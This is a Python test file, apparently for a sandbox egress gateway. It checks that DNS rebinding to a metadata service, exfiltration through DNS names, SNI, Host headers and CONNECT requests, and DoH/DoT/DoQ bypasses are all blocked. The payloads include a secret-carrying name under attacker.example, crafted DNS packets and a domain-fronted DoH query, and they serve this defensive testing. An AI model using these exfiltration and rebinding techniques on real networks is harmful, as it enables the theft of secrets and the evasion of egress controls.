"""DNS: rebinding (a name whose static or /etc/hosts address is denied; a stale answer dialled
with the right SNI), exfiltration through names (DNS mode questions, TLS SNI, Host, CONNECT and
absolute URLs carrying `<data>.attacker.example`) and DoH/DoT/DoQ to a resolver no rule allows.

All inside the namespace topology: the gateway namespace's resolv.conf points at a trap resolver
(udp/tcp 53 recorders) that also stands in for a public DoH/DoT resolver (443/853 recorders). A name
the gateway looked up, or a byte that reached the resolver, shows up there.
"""

from __future__ import annotations

import os

import pytest

from tests.e2e.helpers import Conn, connect_proxy, get, start_tls, tunnel
from tests.support.topology import ALLOWED, dns_query_packet

from .common import attack
from .world import HOSTS_FILE_REBIND, METADATA, RESOLVER

pytestmark = attack("dns")

SECRET = "4f70656e41495f6b65793a736b2d6c697665.x7.attacker.example"


def _resolver_untouched(world) -> None:
    assert world.touched() == [], "the resolver (or some other upstream) heard something"


# --- rebinding ------------------------------------------------------------------------------------


@pytest.mark.parametrize("name", ["meta.test", "mixed.test", HOSTS_FILE_REBIND, "mapped.test"])
def test_dns_mode_never_answers_a_denied_address(world, name):
    """A rule covers the name but it resolves (static_hosts or /etc/hosts) to the metadata service
    (mixed.test: one good and one denied address): NXDOMAIN, no address handed out."""
    for qtype in ("A", "AAAA"):
        reply = world.dns(name, qtype)
        assert reply is not None and reply.rcode == "NXDOMAIN" and reply.answers == [], (qtype, reply)
    _resolver_untouched(world)


def test_rebinding_stale_answer_is_never_dialled(world):
    """The sandbox got allowed.test's address once, then 'rebinds' it to the metadata service and
    dials that with SNI allowed.test: the gateway resolves the SNI itself; metadata hears nothing."""
    assert world.dns("allowed.test").addresses == [ALLOWED]
    with start_tls(Conn(world.connect(METADATA, 443)), world.gateway, "allowed.test") as tls:
        response = get(tls, "/rebound", "allowed.test")
    assert response.status == 200, response.text
    assert world.touched() == [f"{ALLOWED}:443"]


def test_explicit_connect_to_a_hosts_file_rebinding_name(world):
    mark = world.audit_mark()
    with world.gateway_ns():
        conn, answer = tunnel(world.gateway, f"{HOSTS_FILE_REBIND}:443")
    conn.close()
    assert (answer.status, answer.egress_reason) == (403, "denied_address"), answer.body
    _resolver_untouched(world)
    [line] = world.audit_since(mark, event="connect")
    assert METADATA in line["message"]


# --- exfiltration through names -------------------------------------------------------------------


@pytest.mark.parametrize("qtype,tcp", [("A", False), ("AAAA", False), ("TXT", False), ("HTTPS", False),
                                        ("MX", False), ("A", True)])
def test_dns_mode_exfiltration_names_are_not_looked_up(world, qtype, tcp):
    reply = world.dns(SECRET, qtype, tcp=tcp)
    assert reply is not None and reply.rcode in ("NXDOMAIN", "REFUSED") and reply.answers == [], reply
    _resolver_untouched(world)


def test_dns_mode_exfiltration_in_labels_under_an_allowed_name(world):
    reply = world.dns(f"{SECRET.split('.')[0]}.allowed.test")
    assert reply is not None and reply.rcode == "NXDOMAIN" and reply.answers == [], reply
    _resolver_untouched(world)


def test_dns_mode_odd_questions(world):
    """Class CHAOS, an over-long label, and a non-query opcode: refused, never forwarded."""
    packet = bytearray(dns_query_packet("version.bind", "TXT"))
    packet[-1] = 3  # class CH
    notify = bytearray(dns_query_packet(SECRET, "A"))
    notify[2] = (notify[2] & 0x87) | (4 << 3)  # opcode NOTIFY
    long_label = dns_query_packet("a" * 63 + "." + SECRET, "A")
    with world.topology.inside(world.sandbox.ns):
        import socket

        sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    answered = 0
    with sock:
        sock.settimeout(2)
        for payload in (bytes(packet), bytes(notify), long_label):
            sock.sendto(payload, (world.sandbox.gateway_address, 53))
            try:
                data, _ = sock.recvfrom(65536)
            except OSError:
                continue
            answered += 1
            assert data[3] & 0x0F in (1, 3, 4, 5), data[:12]  # FORMERR, NXDOMAIN, NOTIMP or REFUSED
            assert int.from_bytes(data[6:8], "big") == 0, "an answer section"
    _resolver_untouched(world)


def test_exfiltration_through_sni(world):
    with start_tls(Conn(world.connect(ALLOWED, 443)), world.gateway, SECRET) as tls:
        response = get(tls, "/", SECRET)
    assert (response.status, response.egress_reason) == (403, "no_rule"), response.text
    _resolver_untouched(world)


def test_exfiltration_through_host(world):
    with Conn(world.connect(ALLOWED, 80)) as conn:
        response = get(conn, "/", SECRET)
    assert (response.status, response.egress_reason) == (403, "no_rule"), response.text
    _resolver_untouched(world)


@pytest.mark.parametrize("form", ["connect", "absolute"])
def test_exfiltration_through_explicit_proxy_names(world, form):
    with world.gateway_ns():
        if form == "connect":
            conn, answer = tunnel(world.gateway, f"{SECRET}:443")
        else:
            conn = connect_proxy(world.gateway)
            answer = conn.request("GET", f"http://{SECRET}/", [("Host", SECRET)])
    conn.close()
    assert (answer.status, answer.egress_reason) == (403, "no_rule"), answer.body
    _resolver_untouched(world)


# --- DoH / DoT / DoQ to a resolver no rule allows -------------------------------------------------


@pytest.mark.parametrize("sni", ["dns.resolver.example", None])
def test_doh_to_a_resolver(world, sni):
    query = dns_query_packet("allowed.test", "A")
    with start_tls(Conn(world.connect(RESOLVER, 443)), world.gateway, sni) as tls:
        response = tls.request("POST", "/dns-query", [("Host", sni or RESOLVER),
                                                     ("Content-Type", "application/dns-message")], query)
    assert (response.status, response.egress_reason) == (403, "no_rule"), response.text
    _resolver_untouched(world)


def test_doh_fronted_through_an_allowed_sni(world):
    with start_tls(Conn(world.connect(RESOLVER, 443)), world.gateway, "allowed.test") as tls:
        response = get(tls, "/dns-query?dns=AAABAAABAAAAAAAAB2FsbG93ZWQEdGVzdAAAAQAB", "dns.resolver.example")
    assert (response.status, response.egress_reason) == (421, "host_mismatch"), response.text
    _resolver_untouched(world)


def test_dot_and_doq_are_not_reachable(world):
    """853/tcp is not redirected and the gateway side drops it; 853/udp (DoQ) likewise."""
    with pytest.raises(OSError):
        world.connect(RESOLVER, 853, timeout=1.0).close()
    world.topology.udp_send(world.sandbox.ns, RESOLVER, 853, os.urandom(1200))
    _resolver_untouched(world)


def test_explicit_connect_to_a_dot_resolver(world):
    with world.gateway_ns():
        conn, answer = tunnel(world.gateway, f"{RESOLVER}:853")
    conn.close()
    assert (answer.status, answer.egress_reason) == (403, "no_rule"), answer.body
    _resolver_untouched(world)


def test_dns_over_tcp_to_an_outside_resolver_is_answered_by_the_gateway(world):
    """tcp/53 to the resolver's address is redirected to the gateway's DNS listener."""
    from tests.support.topology import dns_query

    reply = dns_query(world.topology, world.sandbox.ns, RESOLVER, SECRET, "A", tcp=True)
    assert reply is None or (reply.rcode in ("NXDOMAIN", "REFUSED") and reply.answers == [])
    _resolver_untouched(world)
